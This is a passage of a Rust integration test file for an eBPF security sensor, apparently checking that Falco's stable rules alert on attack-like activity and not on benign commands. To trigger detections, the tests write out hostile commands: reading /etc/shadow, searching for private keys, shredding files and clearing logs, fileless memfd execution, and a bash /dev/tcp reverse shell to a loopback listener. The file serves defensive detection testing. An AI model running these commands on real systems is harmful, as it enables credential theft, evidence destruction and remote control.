//! The sensor on the real kernel with Falco's stable rules: real commands, real alerts.
//!
//! These need root (CAP_BPF and CAP_PERFMON), which CI has: they are `#[ignore]`d, and
//! `make test` runs them with `--include-ignored` when it runs as root.

use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use peregrine_fakes::cri::{containerd_info, CriContainer, FakeCri};
use peregrine_fakes::docker::{Container, FakeDocker};

fn stable_rules() -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/data/falco-rules/falco_rules.yaml")
        .display()
        .to_string()
}

struct Sensor {
    /// The log line that said the kernel side is attached.
    attached: String,
    child: Child,
    stdout: PathBuf,
    /// Every line the sensor logged.
    logs: Arc<Mutex<Vec<String>>>,
    /// Holds the alerts file; removed with the sensor.
    dir: tempfile::TempDir,
}

impl Sensor {
    /// Starts `peregrine-sensor run --stdout` and waits until the kernel side is attached.
    fn start(extra: &[&str]) -> Sensor {
        Self::start_via(&[], extra)
    }

    /// [`Sensor::start`] through `via`, a command that gets the sensor's path and arguments
    /// after its own and must `exec` them (so the pid stays the sensor's).
    fn start_via(via: &[&str], extra: &[&str]) -> Sensor {
        let sensor = env!("CARGO_BIN_EXE_peregrine-sensor");
        Self::start_program(via, sensor, &stable_rules(), extra)
    }

    /// [`Sensor::start_via`] with the sensor binary and rules file given.
    fn start_program(via: &[&str], sensor: &str, rules: &str, extra: &[&str]) -> Sensor {
        let dir = tempfile::tempdir().unwrap();
        let stdout = dir.path().join("alerts.jsonl");
        let mut command = match via.split_first() {
            Some((program, args)) => {
                let mut c = Command::new(program);
                c.args(args).arg(sensor);
                c
            }
            None => Command::new(sensor),
        };
        let mut child = command
            .args([
                "run",
                "--stdout",
                "--hostname",
                "test-node",
                "--rules",
                rules,
            ])
            .args(extra)
            // Debug for the runtime module: tests wait for "container known".
            .env("PEREGRINE_LOG", "info,peregrine_sensor::runtime=debug")
            .stdout(Stdio::from(std::fs::File::create(&stdout).unwrap()))
            .stderr(Stdio::piped())
            .spawn()
            .expect("the sensor starts");
        let stderr = child.stderr.take().unwrap();
        let logs = Arc::new(Mutex::new(Vec::new()));
        {
            let logs = logs.clone();
            std::thread::spawn(move || {
                for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                    logs.lock().unwrap().push(line);
                }
            });
        }
        let mut sensor = Sensor {
            attached: String::new(),
            child,
            stdout,
            logs,
            dir,
        };
        sensor.attached = sensor.wait_for_log(&["kernel side attached"], Duration::from_secs(30));
        sensor
    }

    /// Waits until the sensor has logged a line holding every one of `needles`, and returns it.
    fn wait_for_log(&mut self, needles: &[&str], timeout: Duration) -> String {
        let deadline = Instant::now() + timeout;
        loop {
            let found = (self.logs.lock().unwrap().iter())
                .find(|l| needles.iter().all(|n| l.contains(n)))
                .cloned();
            if let Some(line) = found {
                return line;
            }
            let logs = || self.logs.lock().unwrap().join("\n");
            if let Some(status) = self.child.try_wait().unwrap() {
                panic!("the sensor exited with {status}:\n{}", logs());
            }
            assert!(
                Instant::now() < deadline,
                "the sensor logged no line with {needles:?} within {timeout:?}:\n{}",
                logs()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// Waits (up to 10 s) until an alert whose JSON line contains `needle` has been written.
    fn wait_for_alert(&self, needle: &str) {
        let deadline = Instant::now() + Duration::from_secs(10);
        while !std::fs::read_to_string(&self.stdout)
            .unwrap_or_default()
            .contains(needle)
        {
            assert!(
                Instant::now() < deadline,
                "no alert with {needle} within 10 s"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// Stops the sensor and returns its alerts. No wait is needed first: a syscall's record is
    /// in the ring buffer when the syscall returns, and on SIGTERM the sensor drains the ring and
    /// writes its alerts before it exits.
    fn stop(mut self) -> Vec<serde_json::Value> {
        // SAFETY: signalling our own child.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(10);
        while self.child.try_wait().unwrap().is_none() {
            assert!(
                Instant::now() < deadline,
                "the sensor did not stop on SIGTERM"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        std::fs::read_to_string(&self.stdout)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).expect("one JSON alert per line"))
            .collect()
    }
}

fn sh(script: &str) {
    let status = Command::new("bash").args(["-c", script]).status().unwrap();
    assert!(status.success(), "{script}");
}

fn find<'a>(
    alerts: &'a [serde_json::Value],
    rule: &str,
    field: &str,
    contains: &str,
) -> Option<&'a serde_json::Value> {
    alerts.iter().find(|a| {
        a["rule"] == rule
            && a["output_fields"][field]
                .as_str()
                .is_some_and(|v| v.contains(contains))
    })
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn falcos_stable_rules_fire_on_real_attacks_and_not_on_benign_commands() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path().display().to_string();
    let tag = std::process::id();
    let sensor = Sensor::start(&[]);

    // Credential access, then evidence tampering and destruction.
    sh("cat /etc/shadow > /dev/null; true");
    sh(&format!("ln -s /etc/shadow {w}/shadow-link-{tag}"));
    sh(&format!("mkdir -p {w}/keys && echo nothing > {w}/keys/a && grep -r 'BEGIN RSA PRIVATE' {w}/keys; true"));
    sh(&format!(
        "echo data > {w}/victim-{tag} && shred -u {w}/victim-{tag}"
    ));
    sh(&format!(
        ": > /var/log/peregrine-live-{tag}.log; rm -f /var/log/peregrine-live-{tag}.log"
    ));
    // Execution from /dev/shm, and fileless execution from a memfd.
    sh(&format!("cp /usr/bin/true /dev/shm/pg-dropper-{tag} && /dev/shm/pg-dropper-{tag}; rm -f /dev/shm/pg-dropper-{tag}"));
    sh(r#"python3 -c '
import os
fd = os.memfd_create("pg-payload")
os.write(fd, open("/usr/bin/true", "rb").read())
pid = os.fork()
if pid == 0:
    os.execv("/proc/self/fd/%d" % fd, ["pg-fileless"])
os.waitpid(pid, 0)
'"#);
    // Anti-debugging.
    sh(r#"python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'"#);
    // Benign work.
    sh(&format!("ls {w} > /dev/null; date > /dev/null; cat /etc/hostname > /dev/null; echo ok > {w}/note-{tag}; cat {w}/note-{tag} > /dev/null"));

    let alerts = sensor.stop();
    let summary: Vec<String> = alerts
        .iter()
        .map(|a| format!("{} | {}", a["rule"], a["output"]))
        .collect();
    let mut missing = Vec::new();

    match find(
        &alerts,
        "Read sensitive file untrusted",
        "fd.name",
        "/etc/shadow",
    ) {
        Some(a) => {
            assert_eq!(a["output_fields"]["proc.name"], "cat");
            assert_eq!(a["output_fields"]["proc.cmdline"], "cat /etc/shadow");
            assert_eq!(a["output_fields"]["proc.pname"], "bash");
            assert_eq!(a["output_fields"]["proc.exepath"], "/usr/bin/cat");
            assert_eq!(a["output_fields"]["user.name"], "root");
            assert_eq!(a["output_fields"]["container.id"], "host");
            assert_eq!(a["priority"], "Warning");
            assert_eq!(a["hostname"], "test-node");
            assert_eq!(a["source"], "syscall");
        }
        None => missing.push("Read sensitive file untrusted (cat /etc/shadow)"),
    }
    match find(
        &alerts,
        "Create Symlink Over Sensitive Files",
        "evt.arg.linkpath",
        &format!("shadow-link-{tag}"),
    ) {
        Some(a) => {
            assert_eq!(a["output_fields"]["evt.arg.target"], "/etc/shadow");
            assert_eq!(a["output_fields"]["proc.name"], "ln");
        }
        None => missing.push("Create Symlink Over Sensitive Files (ln -s /etc/shadow)"),
    }
    if find(
        &alerts,
        "Search Private Keys or Passwords",
        "proc.cmdline",
        "BEGIN RSA PRIVATE",
    )
    .is_none()
    {
        missing.push("Search Private Keys or Passwords (grep -r 'BEGIN RSA PRIVATE')");
    }
    if find(
        &alerts,
        "Remove Bulk Data from Disk",
        "proc.cmdline",
        &format!("victim-{tag}"),
    )
    .is_none()
    {
        missing.push("Remove Bulk Data from Disk (shred)");
    }
    if find(
        &alerts,
        "Clear Log Activities",
        "fd.name",
        &format!("/var/log/peregrine-live-{tag}.log"),
    )
    .is_none()
    {
        missing.push("Clear Log Activities (truncate a file under /var/log)");
    }
    if find(
        &alerts,
        "Execution from /dev/shm",
        "proc.exepath",
        &format!("/dev/shm/pg-dropper-{tag}"),
    )
    .is_none()
    {
        missing.push("Execution from /dev/shm");
    }
    if !alerts
        .iter()
        .any(|a| a["rule"] == "Fileless execution via memfd_create")
    {
        missing.push("Fileless execution via memfd_create");
    }
    if find(&alerts, "PTRACE anti-debug attempt", "proc.name", "python3").is_none() {
        missing.push("PTRACE anti-debug attempt (PTRACE_TRACEME)");
    }
    assert!(
        missing.is_empty(),
        "missing alerts: {missing:#?}\nalerts seen:\n{}",
        summary.join("\n")
    );

    let benign: Vec<&String> = summary
        .iter()
        .filter(|s| {
            s.contains(&format!("note-{tag}"))
                || s.contains("command=date")
                || s.contains("/etc/hostname")
                || s.contains("command=ls ")
        })
        .collect();
    assert!(
        benign.is_empty(),
        "benign commands raised alerts: {benign:#?}"
    );
}

/// A 64-hex-character container id unique to this test run.
fn container_id(salt: u64) -> String {
    format!(
        "{:0>64}",
        format!("{:x}", salt + u64::from(std::process::id()))
    )
}

/// Starts the sensor with `args`, reads /etc/shadow from a shell moved into the cgroup
/// `/sys/fs/cgroup/cpu/<parent>/<leaf>` (as a container runtime would place it), and returns
/// the alert that read raised; panics when the cgroup cannot be made (root on cgroup v1 cpu).
fn shadow_read_in_cgroup(parent: &str, leaf: &str, args: &[&str]) -> serde_json::Value {
    shadow_read_in_controller("cpu", parent, leaf, args)
}

/// [`shadow_read_in_cgroup`] under the v1 `controller`'s hierarchy only.
fn shadow_read_in_controller(
    controller: &str,
    parent: &str,
    leaf: &str,
    args: &[&str],
) -> serde_json::Value {
    // As in a real container, the shadow read is not the container's first process: the
    // runtime's answer arrives asynchronously (as with Falco), so when a runtime is given the
    // read waits until the sensor knows the container.
    let runtime = args.iter().any(|a| a.ends_with("-socket"));
    let alerts = run_in_cgroup(
        controller,
        &format!("{parent}/{leaf}"),
        args,
        "exec cat /etc/shadow > /dev/null",
        runtime.then_some(leaf),
    );
    // Tests run side by side, each with its own sensor seeing every read: take this
    // container's.
    let hit = alerts
        .iter()
        .find(|a| {
            a["rule"] == "Read sensitive file untrusted"
                && a["output_fields"]["fd.name"] == "/etc/shadow"
                && a["output_fields"]["container.id"] == leaf[..12]
        })
        .unwrap_or_else(|| panic!("no alert from container {}: {alerts:#?}", &leaf[..12]));
    hit.clone()
}

/// Starts the sensor with `args`, runs `script` in a shell moved into the cgroup
/// `/sys/fs/cgroup/<controller>/<path>` (as a container runtime would place it), stops the
/// sensor and returns its alerts. With `known`, a container id, the script starts only once the
/// sensor has the runtime's answer about it. Panics when the cgroup cannot be made (root on
/// cgroup v1).
fn run_in_cgroup(
    controller: &str,
    path: &str,
    args: &[&str],
    script: &str,
    known: Option<&str>,
) -> Vec<serde_json::Value> {
    let root = PathBuf::from("/sys/fs/cgroup").join(controller);
    let cgroup = root.join(path);
    if let Err(e) = std::fs::create_dir_all(&cgroup) {
        panic!("cannot create the test's cgroup {}: {e} (these tests need the cgroup v1 {controller} hierarchy, as on the CI machines)", cgroup.display());
    }
    let mut sensor = Sensor::start(args);
    let go = sensor.dir.path().join("go");
    // The shell's own processes (the waiting loop's) are the container's first: seeing them,
    // the sensor asks the runtime.
    let wait_for_go = match known {
        Some(_) => format!("until [ -e {} ]; do sleep 0.02; done && ", go.display()),
        None => String::new(),
    };
    let mut shell = Command::new("bash")
        .args([
            "-c",
            &format!(
                "echo $$ > {}/cgroup.procs && {wait_for_go}{script}",
                cgroup.display()
            ),
        ])
        .spawn()
        .unwrap();
    if let Some(id) = known {
        sensor.wait_for_log(&["container known", &id[..12]], Duration::from_secs(10));
        std::fs::write(&go, "").unwrap();
    }
    let status = shell.wait().unwrap();
    let alerts = sensor.stop();
    // Remove the cgroups made here, innermost first (a directory still in use stays).
    let mut dir = cgroup.as_path();
    while dir != root {
        let _ = std::fs::remove_dir(dir);
        dir = dir.parent().unwrap();
    }
    assert!(status.success(), "{script}");
    alerts
}

fn assert_output_has(alert: &serde_json::Value, parts: &[String]) {
    let output = alert["output"].as_str().unwrap();
    for part in parts {
        assert!(output.contains(part.as_str()), "{part} not in {output}");
    }
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_process_in_a_docker_cgroup_gets_its_container_id_name_and_image() {
    let id = container_id(0xfeed_0000_0000);
    // The runtime's side: a Docker Engine API that knows this container.
    let rt = tokio::runtime::Runtime::new().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("docker.sock");
    let docker = rt.block_on(FakeDocker::start(
        &socket,
        vec![Container {
            id: id.clone(),
            name: "/payments-web".into(),
            image: "registry.local:5000/shop/web:2.4.1".into(),
            privileged: true,
            labels: vec![],
        }],
    ));
    let hit = shadow_read_in_cgroup(
        "docker",
        &id,
        &["--docker-socket", socket.to_str().unwrap()],
    );
    let fields = &hit["output_fields"];
    assert_eq!(fields["container.id"], id[..12]);
    assert_eq!(fields["container.name"], "payments-web", "{hit:#}");
    assert_eq!(
        fields["container.image.repository"],
        "registry.local:5000/shop/web"
    );
    assert_eq!(fields["container.image.tag"], "2.4.1");
    assert_output_has(
        &hit,
        &[
            format!("container_id={}", &id[..12]),
            "container_name=payments-web".to_string(),
            "container_image_repository=registry.local:5000/shop/web".to_string(),
            "container_image_tag=2.4.1".to_string(),
        ],
    );
    assert!(
        docker
            .requests()
            .iter()
            .any(|p| p == &format!("/containers/{}/json", &id[..12])),
        "{:?}",
        docker.requests()
    );
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_process_in_a_kubernetes_pod_cgroup_gets_its_pod_from_the_cri() {
    let id = container_id(0xc0de_0000_0000);
    let rt = tokio::runtime::Runtime::new().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("containerd.sock");
    let labels = [
        ("io.kubernetes.pod.name", "checkout-7d9f6"),
        ("io.kubernetes.pod.namespace", "shop"),
        ("io.kubernetes.pod.uid", "1b2c-3d4e"),
    ];
    let cri = rt.block_on(FakeCri::start(
        &socket,
        vec![CriContainer {
            id: id.clone(),
            name: "checkout".into(),
            image: "docker.io/shop/checkout:5.0".into(),
            user_specified_image: "shop/checkout:5.0".into(),
            image_ref: "docker.io/shop/checkout@sha256:77aa".into(),
            labels: labels
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            verbose_info: Some(containerd_info(&id, false)),
        }],
    ));
    // The kubelet's cgroupfs layout: kubepods/<qos>/pod<uid>/<container id>.
    let hit = shadow_read_in_cgroup(
        "kubepods/besteffort/pod1b2c-3d4e",
        &id,
        &["--cri-socket", socket.to_str().unwrap()],
    );
    let fields = &hit["output_fields"];
    assert_eq!(fields["container.id"], id[..12]);
    assert_eq!(fields["container.name"], "checkout", "{hit:#}");
    assert_eq!(fields["container.image.repository"], "shop/checkout");
    assert_eq!(fields["container.image.tag"], "5.0");
    assert_eq!(fields["k8s.pod.name"], "checkout-7d9f6");
    assert_eq!(fields["k8s.ns.name"], "shop");
    assert_output_has(
        &hit,
        &[
            "k8s_pod_name=checkout-7d9f6".to_string(),
            "k8s_ns_name=shop".to_string(),
        ],
    );
    assert!(
        cri.calls().iter().any(|c| c == "ContainerStatus"),
        "{:?}",
        cri.calls()
    );
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_captured_session_replays_to_the_same_alert() {
    let dir = tempfile::tempdir().unwrap();
    let capture = dir.path().join("session.jsonl");
    let sensor = Sensor::start(&["--capture", capture.to_str().unwrap()]);
    sh("cat /etc/shadow > /dev/null; true");
    let live = sensor.stop();
    let live_alert = find(
        &live,
        "Read sensitive file untrusted",
        "fd.name",
        "/etc/shadow",
    )
    .expect("the live alert")
    .clone();

    let replay = Command::new(env!("CARGO_BIN_EXE_peregrine-sensor"))
        .args([
            "replay",
            "--hostname",
            "test-node",
            "--rules",
            &stable_rules(),
            "--events",
            capture.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(
        replay.status.success(),
        "{}",
        String::from_utf8_lossy(&replay.stderr)
    );
    let replayed: Vec<serde_json::Value> = String::from_utf8_lossy(&replay.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let again = find(
        &replayed,
        "Read sensitive file untrusted",
        "fd.name",
        "/etc/shadow",
    )
    .expect("the replayed alert");
    for key in [
        "rule",
        "priority",
        "output",
        "time",
        "tags",
        "output_fields",
    ] {
        assert_eq!(
            again[key], live_alert[key],
            "{key} differs between live and replay"
        );
    }
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn the_kernel_side_filter_keeps_watched_opens_and_drops_the_rest() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let metrics = format!("127.0.0.1:{port}");
    let sensor = Sensor::start(&["--metrics-listen", &metrics]);
    // 20 000 opens of a file no stable rule watches, then one that a rule does.
    sh(r#"python3 -c '
import os
for _ in range(20000):
    os.close(os.open("/etc/hostname", os.O_RDONLY))
'"#);
    sh("cat /etc/shadow > /dev/null; true");
    // The opens before it have been evaluated by the time its alert is out.
    sensor.wait_for_alert("/etc/shadow");
    let text = http_get(&format!("http://{metrics}/metrics"));
    let opens: f64 = text
        .lines()
        .find_map(|l| {
            l.strip_prefix("peregrine_sensor_events_total{type=\"openat\"}")
                .and_then(|r| r.trim().parse().ok())
        })
        .unwrap_or(0.0);
    let alerts = sensor.stop();
    assert!(
        opens < 2000.0,
        "{opens} opens reached user space; the 20 000 of /etc/hostname should not"
    );
    assert!(
        find(
            &alerts,
            "Read sensitive file untrusted",
            "fd.name",
            "/etc/shadow"
        )
        .is_some(),
        "the watched open still alerts"
    );
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_burst_overflowing_the_ring_reports_its_drops() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let metrics = format!("127.0.0.1:{port}");
    // A 16 KiB ring cannot hold a tight loop of opens between two polls. No rule watches
    // /etc/hostname, so the kernel-side filters would keep these opens out of the ring
    // altogether; they are turned off to make every open a record.
    let sensor = Sensor::start(&[
        "--no-kernel-filters",
        "--ring-bytes",
        "16384",
        "--drop-threshold",
        "0",
        "--metrics-listen",
        &metrics,
    ]);
    sh(r#"python3 -c '
import os
for _ in range(100000):
    os.close(os.open("/etc/hostname", os.O_RDONLY))
'"#);
    // Kernel counters are read once a second: wait until two readings of them agree.
    let read = |text: &str, series: &str| -> f64 {
        text.lines()
            .find_map(|l| l.strip_prefix(series).and_then(|r| r.trim().parse().ok()))
            .unwrap_or(0.0)
    };
    let key = |t: &str| {
        (
            read(t, "peregrine_sensor_drops_total"),
            read(t, "peregrine_sensor_kernel_records_total"),
        )
    };
    // `before` is the reading two rounds (2.2 s) earlier: every record evaluated by then was sent
    // before the once-a-second read of the kernel counters in `text`, whatever else the machine
    // (other tests) does meanwhile.
    let mut readings = vec![String::new(); 3];
    for _ in 0..10 {
        std::thread::sleep(Duration::from_millis(1100));
        let now = http_get(&format!("http://{metrics}/metrics"));
        let settled = key(&now) == key(&readings[2]);
        readings.remove(0);
        readings.push(now);
        if settled && !readings[0].is_empty() {
            break;
        }
    }
    let (before, text) = (&readings[0], &readings[2]);
    let drops = read(text, "peregrine_sensor_drops_total");
    let sent = read(text, "peregrine_sensor_kernel_records_total");
    let opens = read(before, "peregrine_sensor_events_total{type=\"openat\"}");
    let alerts = sensor.stop();
    assert!(
        drops > 0.0,
        "a 16 KiB ring under 100k opens must drop some records:\n{text}"
    );
    // Everything evaluated or lost was sent by the kernel.
    assert!(
        opens > 0.0 && opens + drops <= sent,
        "evaluated ({opens}) plus dropped ({drops}) cannot exceed what the kernel sent ({sent})"
    );
    let alert = alerts
        .iter()
        .find(|a| a["rule"] == "Falco internal: syscall event drop")
        .unwrap_or_else(|| panic!("no drop alert among {} alerts", alerts.len()));
    assert_eq!(alert["priority"], "Debug");
    assert_eq!(alert["source"], "internal");
    assert!(
        alert["output_fields"]["n_drops"]
            .as_str()
            .unwrap()
            .parse::<u64>()
            .unwrap()
            > 0
    );
}

/// A plain HTTP/1.0 GET on loopback (the tests need no HTTP client crate for this).
fn http_get(url: &str) -> String {
    use std::io::{Read, Write};
    let rest = url.strip_prefix("http://").unwrap();
    let (host, path) = rest.split_once('/').unwrap();
    let mut s = std::net::TcpStream::connect(host).unwrap();
    write!(s, "GET /{path} HTTP/1.0\r\nHost: {host}\r\n\r\n").unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    out.split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default()
}

/// Ways to spell an open of /etc/shadow, each run as `python3 -c … <class>` so that its alert
/// can be told apart by `proc.cmdline`.
const SPELLINGS: &[(&str, &str)] = &[
    ("plain", "os.open('/etc/shadow', os.O_RDONLY)"),
    ("dot", "os.open('/etc/./shadow', os.O_RDONLY)"),
    ("slashes", "os.open('//etc//shadow', os.O_RDONLY)"),
    ("dotdot", "os.open('/tmp/../etc/shadow', os.O_RDONLY)"),
    (
        "dirfd",
        "d = os.open('/etc', os.O_RDONLY | os.O_DIRECTORY); os.open('shadow', os.O_RDONLY, dir_fd=d)",
    ),
    ("cwd", "os.chdir('/etc'); os.open('shadow', os.O_RDONLY)"),
    // Over the old 512-byte cap, under PATH_MAX.
    ("long", "os.open('/etc/' + './' * 1000 + 'shadow', os.O_RDONLY)"),
];

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn every_spelling_of_a_watched_path_alerts_with_kernel_filters_on_and_off() {
    for args in [&[][..], &["--no-kernel-filters"][..]] {
        let sensor = Sensor::start(args);
        for (class, code) in SPELLINGS {
            sh(&format!(
                "python3 -c \"import os; {code}\" spelling-{class}"
            ));
        }
        let alerts = sensor.stop();
        let missing: Vec<&str> = SPELLINGS
            .iter()
            .map(|(class, _)| *class)
            .filter(|class| {
                !alerts.iter().any(|a| {
                    a["rule"] == "Read sensitive file untrusted"
                        && a["output_fields"]["fd.name"] == "/etc/shadow"
                        && a["output_fields"]["proc.cmdline"]
                            .as_str()
                            .is_some_and(|c| c.ends_with(&format!("spelling-{class}")))
                })
            })
            .collect();
        assert!(
            missing.is_empty(),
            "with {args:?}, no alert for the spellings {missing:?}; alerts: {:#?}",
            alerts
                .iter()
                .map(|a| (
                    &a["rule"],
                    &a["output_fields"]["fd.name"],
                    &a["output_fields"]["proc.cmdline"]
                ))
                .collect::<Vec<_>>()
        );
    }
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_shell_below_a_web_server_fires_run_shell_untrusted() {
    // proc.aname in (protected_shell_spawning_binaries): one ancestor named httpd is enough.
    let dir = tempfile::tempdir().unwrap();
    let httpd = dir.path().join("httpd");
    std::fs::copy("/bin/bash", &httpd).unwrap();
    let sensor = Sensor::start(&[]);
    // `; true` keeps bash from exec'ing the last command in place: sh is httpd's child.
    sh(&format!(
        "{} -c 'sh -c \"echo from-httpd\"; true'",
        httpd.display()
    ));
    let alerts = sensor.stop();
    let hit = alerts.iter().find(|a| {
        a["rule"] == "Run shell untrusted" && a["output_fields"]["proc.pname"] == "httpd"
    });
    assert!(
        hit.is_some(),
        "no 'Run shell untrusted' below httpd: {:#?}",
        alerts.iter().map(|a| &a["rule"]).collect::<Vec<_>>()
    );
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_container_cgroup_of_any_one_v1_controller_gives_the_container_id() {
    // A runtime may place a container under some controllers only; Falco looks at them all.
    for (salt, controller) in [(1u64, "pids"), (2, "blkio"), (3, "freezer")] {
        let id = container_id(0xc0de_0000_0000 + salt);
        let hit = shadow_read_in_controller(controller, "docker", &id, &[]);
        assert_eq!(
            hit["output_fields"]["container.id"],
            id[..12],
            "{controller}"
        );
    }
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn the_sensor_answers_healthz_and_logs_json_lines() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let listen = format!("127.0.0.1:{port}");
    let sensor = Sensor::start(&["--metrics-listen", &listen, "--log-json"]);
    let line: serde_json::Value = serde_json::from_str(&sensor.attached).expect("a JSON log line");
    assert!(line["fields"]["message"]
        .as_str()
        .unwrap()
        .contains("kernel side attached"));
    // The loop beats once it runs: wait for it, with a deadline.
    let deadline = Instant::now() + Duration::from_secs(10);
    let health = loop {
        let body = std::net::TcpStream::connect(&listen)
            .map(|_| http_get(&format!("http://{listen}/healthz")))
            .unwrap_or_default();
        if body.contains("\"ok\"") || Instant::now() > deadline {
            break body;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(health, r#"{"status":"ok"}"#);
    // A plain counter, exported from the start (labelled ones appear with their first event).
    assert!(http_get(&format!("http://{listen}/metrics")).contains("peregrine_sensor_drops_total "));
    // The image's HEALTHCHECK: the same probe from the binary, with no shell or curl.
    let probe = || {
        Command::new(env!("CARGO_BIN_EXE_peregrine-sensor"))
            .args(["healthcheck", "--addr", &listen])
            .output()
            .unwrap()
    };
    assert!(probe().status.success());
    sensor.stop();
    let down = probe();
    assert_eq!(down.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&down.stderr).contains("/healthz"));
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_reverse_shell_in_a_container_fires_the_redirect_rule() {
    use std::io::{Read, Write};
    // The attacker's side: take the connection, tell the shell to exit, read what it printed.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let attacker = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        conn.write_all(b"exit\n").unwrap();
        let mut seen = Vec::new();
        let _ = conn.read_to_end(&mut seen);
    });
    let id = container_id(0x5e11_0000_0000);
    let alerts = run_in_cgroup(
        "cpu",
        &format!("docker/{id}"),
        &[],
        &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        None,
    );
    attacker.join().unwrap();
    let redirects: Vec<&serde_json::Value> = alerts
        .iter()
        .filter(|a| {
            a["rule"] == "Redirect STDOUT/STDIN to Network Connection in Container"
                && a["output_fields"]["container.id"] == id[..12]
        })
        .collect();
    assert!(
        !redirects.is_empty(),
        "no redirect alert: {:#?}",
        alerts.iter().map(|a| &a["rule"]).collect::<Vec<_>>()
    );
    let f = &redirects[0]["output_fields"];
    assert_eq!(f["fd.type"], "ipv4");
    assert_eq!(f["fd.l4proto"], "tcp");
    assert_eq!(f["fd.rport"], port);
    assert_eq!(f["fd.sip"], "127.0.0.1");
    let name = f["fd.name"].as_str().unwrap();
    assert!(
        name.starts_with("127.0.0.1:") && name.ends_with(&format!("->127.0.0.1:{port}")),
        "{name}"
    );
    assert_eq!(
        f["fd.lport"].as_i64(),
        name.split([':', '-']).nth(1).and_then(|p| p.parse().ok())
    );
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_socket_inherited_across_fork_and_exec_is_still_a_socket_when_dup2_is_called() {
    use std::io::Read;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let peer = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        let mut seen = Vec::new();
        let _ = conn.read_to_end(&mut seen);
    });
    let id = container_id(0x1e9a_0000_0000);
    // bash connects (fd 3); python3, forked and exec'd, inherits fd 3 and redirects stdout to it.
    let alerts = run_in_cgroup(
        "cpu",
        &format!("docker/{id}"),
        &[],
        &format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port}; python3 -c 'import os; os.dup2(3, 1)'; exec 3>&-"
        ),
        None,
    );
    peer.join().unwrap();
    let hit = alerts.iter().find(|a| {
        a["rule"] == "Redirect STDOUT/STDIN to Network Connection in Container"
            && a["output_fields"]["proc.name"] == "python3"
    });
    let hit = hit.unwrap_or_else(|| {
        panic!(
            "no redirect alert from python3: {:#?}",
            alerts
                .iter()
                .map(|a| (&a["rule"], &a["output_fields"]["proc.name"]))
                .collect::<Vec<_>>()
        )
    });
    assert_eq!(hit["output_fields"]["fd.rport"], port);
    assert_eq!(hit["output_fields"]["container.id"], id[..12]);
}

/// One way to make a stable rule fire: the shell script that does it, and whether it runs in
/// a container (a docker-style cgroup whose runtime says the container is privileged).
struct Trigger {
    rule: &'static str,
    in_container: bool,
    script: String,
}

/// The stable rules this test triggers besides those of the tests above (see the README's rule
/// table for the ones a single host cannot trigger, and why).
fn triggers(d: &str, port: u16) -> Vec<Trigger> {
    let host = |rule, script: String| Trigger {
        rule,
        in_container: false,
        script,
    };
    let container = |rule, script: String| Trigger {
        rule,
        in_container: true,
        script,
    };
    vec![
        // A parent that is not a shell reads /etc through '../'.
        host(
            "Directory traversal monitored file read",
            "python3 -c \"import subprocess; subprocess.run(['cat', '/etc/../etc/../etc/passwd'], stdout=subprocess.DEVNULL)\"".into(),
        ),
        // A server process (named httpd) reads /etc/shadow after its first 5 s.
        host(
            "Read sensitive file trusted after startup",
            format!("cp \"$(python3 -c 'import sys; print(sys.executable)')\" {d}/httpd && {d}/httpd -c \"import time; time.sleep(5.5); open('/etc/shadow').read()\""),
        ),
        // A system user (nobody) runs login.
        host(
            "System user interactive",
